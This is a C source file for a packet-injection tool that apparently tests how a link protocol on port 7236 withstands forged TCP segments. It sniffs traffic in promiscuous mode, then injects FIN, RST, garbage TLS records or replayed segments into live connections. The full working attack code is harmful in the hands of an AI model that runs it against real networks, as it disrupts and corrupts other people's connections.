// SPDX-License-Identifier: GPL-2.0-only
/*
 * Somebody on the wire, who has no key: makes a segment and puts it into a connection
 * of two others, as one that FROM sends to TO. Not a victim.
 *
 *	intruder INTERFACE FROM TO KIND [SECONDS]
 *
 * KIND is
 *
 *	fin	the end of what FROM sends
 *	rst	the connection is reset
 *	data	a record of TLS, whole, of garbage
 *	part	the begin of such a record
 *	old	what FROM has sent before, once more
 *
 * All but the last have the number of the byte that FROM sends next, which it must
 * not have sent when this comes; so it tries whenever nothing is under way, with any
 * connection between the two that has a link's port at one end. Says "injected" when
 * TO has taken it: it acknowledges just that (the lengths are odd, which those of
 * messages are not), a reset follows, or TO says that it had the old bytes. "missed"
 * when that does not come in time, 60 s.
 */
#include "victim.h"

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

enum {
	LINK_PORT	= 7236,
	CONNECTIONS	= 64,
	ETH		= sizeof(struct ether_header),
	SEGMENT_MAX	= 1460,
	RECORD		= 1237,		/* bytes of a record, its head included */
	PART		= 333,
	RECORD_HEAD	= 5,
	AGAIN_MS	= 20,		/* from one attempt to the next */
	SACK_OPTION	= 5,
};

enum kind { FIN, RST, DATA, PART_OF_IT, OLD, KINDS };

static const char *const kinds[KINDS] = { "fin", "rst", "data", "part", "old" };

/**
 * struct segment - a frame on its way through here
 * @room: so that the header of IP is aligned
 * @frame: as it was on the wire
 * @ip: its header, as the next one
 * @tcp: its header
 * @head: bytes of both
 * @len: bytes behind them
 */
struct segment {
	uint16_t room;
	uint8_t frame[65536 + ETH];
	struct iphdr *ip;
	struct tcphdr *tcp;
	size_t head;
	size_t len;
};

/**
 * struct way - one direction of a connection
 * @seen: something of it was
 * @next: number of its next byte, of what was seen
 * @ack: number of the next byte that it wants
 * @model: its last segment without peculiarities; has none while @model.tcp is NULL
 * @old: its last one with bytes
 */
struct way {
	bool seen;
	uint32_t next;
	uint32_t ack;
	struct segment model;
	struct segment old;
};

/**
 * struct connection - what is known of it
 * @used: something is
 * @from: port of FROM
 * @to: port of TO
 * @out: from FROM to TO
 * @in: back
 * @tries: times that something was put into it
 * @at_ms: when it was last
 * @end: number of the byte behind that; OLD: of its first one
 */
struct connection {
	bool used;
	in_port_t from;
	in_port_t to;
	struct way out;
	struct way in;
	unsigned int tries;
	long at_ms;
	uint32_t end;
};

static struct connection all[CONNECTIONS];
static struct in_addr from, to;
static enum kind kind;
static int wire, ifindex;

static long now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static bool is_behind(uint32_t a, uint32_t b)
{
	return (int32_t)(a - b) > 0;
}

/* ---- what goes by ---- */

/* False: nothing of TCP, or not whole. */
static bool dissect(struct segment *seg, size_t bytes)
{
	size_t len;

	seg->ip = (void *)(seg->frame + ETH);
	if (bytes < ETH + sizeof(*seg->ip) || seg->ip->version != 4 ||
	    seg->ip->protocol != IPPROTO_TCP)
		return false;
	len = ntohs(seg->ip->tot_len);
	seg->head = 4 * seg->ip->ihl + sizeof(*seg->tcp);
	if (len < seg->head || bytes < ETH + len)
		return false;
	seg->tcp = (void *)(seg->frame + ETH + 4 * seg->ip->ihl);
	seg->head = 4 * (seg->ip->ihl + seg->tcp->doff);
	seg->len = len - seg->head;
	return len >= seg->head;
}

static void keep(struct segment *copy, const struct segment *seg)
{
	memcpy(copy->frame, seg->frame, ETH + seg->head + seg->len);
	CHECK(dissect(copy, ETH + seg->head + seg->len), "a copy is none");
}

/* Without options but for time stamps, which all have. */
static bool is_plain(const struct segment *seg)
{
	return seg->ip->ihl == 5 && (seg->tcp->doff == 5 || seg->tcp->doff == 8) &&
	       !seg->tcp->syn && !seg->tcp->fin && !seg->tcp->rst &&
	       seg->len <= SEGMENT_MAX;
}

static void note(struct way *way, const struct segment *seg)
{
	uint32_t seq = ntohl(seg->tcp->seq);
	uint32_t end = seq + seg->len + seg->tcp->syn + seg->tcp->fin;
	uint32_t ack = ntohl(seg->tcp->ack_seq);

	if (!way->seen || is_behind(end, way->next))
		way->next = end;
	if (!way->seen || (seg->tcp->ack && is_behind(ack, way->ack)))
		way->ack = ack;
	way->seen = true;
	if (!is_plain(seg))
		return;
	keep(&way->model, seg);
	if (seg->len)
		keep(&way->old, seg);
}

static struct connection *find(in_port_t from_port, in_port_t to_port)
{
	struct connection *c, *empty = NULL;

	for (c = all; c < all + CONNECTIONS; c++) {
		if (c->used && c->from == from_port && c->to == to_port)
			return c;
		if (!c->used && !empty)
			empty = c;
	}
	if (!empty)
		return NULL;
	empty->used = true;
	empty->from = from_port;
	empty->to = to_port;
	return empty;
}

/* ---- what is put in ---- */

static uint32_t sum(const void *data, size_t len, uint32_t carry)
{
	const uint8_t *byte = data;
	size_t i;

	for (i = 0; i < len; i++)
		carry += i & 1 ? byte[i] : byte[i] << 8;
	return carry;
}

static uint16_t fold(uint32_t carry)
{
	while (carry >> 16)
		carry = (carry & 0xffff) + (carry >> 16);
	return htons(~carry);
}

/* What went by may have left that to the card. */
static void seal(struct segment *seg)
{
	size_t len = seg->len + 4 * seg->tcp->doff;

	seg->ip->tot_len = htons(seg->head + seg->len);
	seg->ip->check = 0;
	seg->ip->check = fold(sum(seg->ip, 4 * seg->ip->ihl, 0));
	seg->tcp->check = 0;
	seg->tcp->check = fold(sum(seg->tcp, len,
				   sum(&seg->ip->saddr, 8, IPPROTO_TCP + len)));
}

static void put(const struct segment *seg)
{
	struct sockaddr_ll where = {
		.sll_family = AF_PACKET,
		.sll_ifindex = ifindex,
	};

	CHECK_CALL(sendto(wire, seg->frame, ETH + seg->head + seg->len, 0,
			  (void *)&where, sizeof(where)));
}

static size_t garbage(uint8_t *bytes, size_t len)
{
	static const uint8_t head[RECORD_HEAD] = {
		23, 3, 3, (RECORD - RECORD_HEAD) >> 8, (RECORD - RECORD_HEAD) & 0xff
	};
	size_t i;

	for (i = 0; i < len; i++)
		bytes[i] = rand();
	memcpy(bytes, head, sizeof(head));
	return len;
}

static void forge(struct connection *c)
{
	static struct segment seg;

	keep(&seg, &c->out.model);
	seg.ip->id = htons(ntohs(seg.ip->id) + 1);
	seg.tcp->seq = htonl(c->out.next);
	seg.tcp->ack_seq = htonl(c->out.ack);
	seg.tcp->psh = 0;
	seg.tcp->fin = kind == FIN;
	seg.tcp->rst = kind == RST;
	seg.len = 0;
	if (kind == DATA || kind == PART_OF_IT)
		seg.len = garbage(seg.frame + ETH + seg.head,
				  kind == DATA ? RECORD : PART);
	c->end = c->out.next + seg.len + seg.tcp->fin;
	seal(&seg);
	put(&seg);
}

static void put_in(struct connection *c)
{
	c->tries++;
	c->at_ms = now_ms();
	if (kind != OLD) {
		forge(c);
		return;
	}
	c->end = ntohl(c->out.old.tcp->seq);
	seal(&c->out.old);
	put(&c->out.old);
}

/* ---- and what becomes of it ---- */

/* Does TO say that it has had the bytes from @seq on before? (RFC 2883) */
static bool says_old(const struct segment *seg, uint32_t seq)
{
	const uint8_t *option = (const uint8_t *)(seg->tcp + 1);
	const uint8_t *end = (const uint8_t *)seg->tcp + 4 * seg->tcp->doff;
	uint32_t first;

	while (option < end && *option) {
		if (*option == 1) {
			option++;
			continue;
		}
		if (end - option < 2 || option[1] < 2)
			return false;
		if (*option == SACK_OPTION && end - option >= 10) {
			memcpy(&first, option + 2, sizeof(first));
			return ntohl(first) == seq;
		}
		option += option[1];
	}
	return false;
}

static bool was_taken(const struct connection *c, const struct segment *seg,
		      bool back)
{
	if (!c->tries)
		return false;
	if (kind == OLD)
		return back && says_old(seg, c->end);
	if (seg->tcp->rst)
		return true;
	return back && kind != RST && seg->tcp->ack &&
	       ntohl(seg->tcp->ack_seq) == c->end;
}

/* Has TO all that was sent, so that it waits for the next byte? */
static bool is_time(const struct connection *c)
{
	if (!c->out.seen || !c->in.seen || c->in.ack != c->out.next ||
	    now_ms() - c->at_ms < AGAIN_MS)
		return false;
	return kind == OLD ? c->out.old.tcp : c->out.model.tcp;
}

/* True: it is done. */
static bool look(struct segment *seg)
{
	bool back = seg->ip->saddr == to.s_addr;
	struct connection *c;

	if (seg->ip->saddr != (back ? to.s_addr : from.s_addr) ||
	    seg->ip->daddr != (back ? from.s_addr : to.s_addr) ||
	    (seg->tcp->source != htons(LINK_PORT) &&
	     seg->tcp->dest != htons(LINK_PORT)))
		return false;
	c = back ? find(seg->tcp->dest, seg->tcp->source) :
		   find(seg->tcp->source, seg->tcp->dest);
	if (!c)
		return false;
	if (was_taken(c, seg, back))
		return true;
	/* The ports may be another connection's from now on. */
	if (seg->tcp->rst || (seg->tcp->syn && !seg->tcp->ack)) {
		memset(c, 0, sizeof(*c));
		return false;
	}
	note(back ? &c->in : &c->out, seg);
	if (back && is_time(c))
		put_in(c);
	return false;
}

static void open_wire(const char *interface)
{
	struct sockaddr_ll where = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
	};
	struct packet_mreq all_of_it = { .mr_type = PACKET_MR_PROMISC };
	struct timeval patience = { .tv_usec = 200000 };
	int room = 4 << 20;

	ifindex = if_nametoindex(interface);
	CHECK(ifindex, "no interface %s", interface);
	/* Of no protocol: nothing comes before it is bound. */
	wire = CHECK_CALL(socket(AF_PACKET, SOCK_RAW, 0));
	where.sll_ifindex = ifindex;
	all_of_it.mr_ifindex = ifindex;
	CHECK_CALL(setsockopt(wire, SOL_SOCKET, SO_RCVBUFFORCE, &room,
			      sizeof(room)));
	CHECK_CALL(setsockopt(wire, SOL_SOCKET, SO_RCVTIMEO, &patience,
			      sizeof(patience)));
	CHECK_CALL(setsockopt(wire, SOL_PACKET, PACKET_ADD_MEMBERSHIP,
			      &all_of_it, sizeof(all_of_it)));
	CHECK_CALL(bind(wire, (void *)&where, sizeof(where)));
}

int main(int argc, char **argv)
{
	static struct segment seg;
	long end_ms;
	ssize_t n;

	CHECK(argc == 5 || argc == 6, "where, between whom, and what?");
	CHECK(inet_aton(argv[2], &from) && inet_aton(argv[3], &to),
	      "%s and %s are no addresses", argv[2], argv[3]);
	while (kind < KINDS && strcmp(kinds[kind], argv[4]))
		kind++;
	CHECK(kind < KINDS, "what is %s?", argv[4]);
	open_wire(argv[1]);
	end_ms = now_ms() + (argc == 6 ? atoi(argv[5]) : 60) * 1000L;
	while (now_ms() < end_ms) {
		n = recv(wire, seg.frame, sizeof(seg.frame), 0);
		if (n > 0 && dissect(&seg, n) && look(&seg)) {
			puts("injected");
			return 0;
		}
	}
	puts("missed");
	return 1;
}
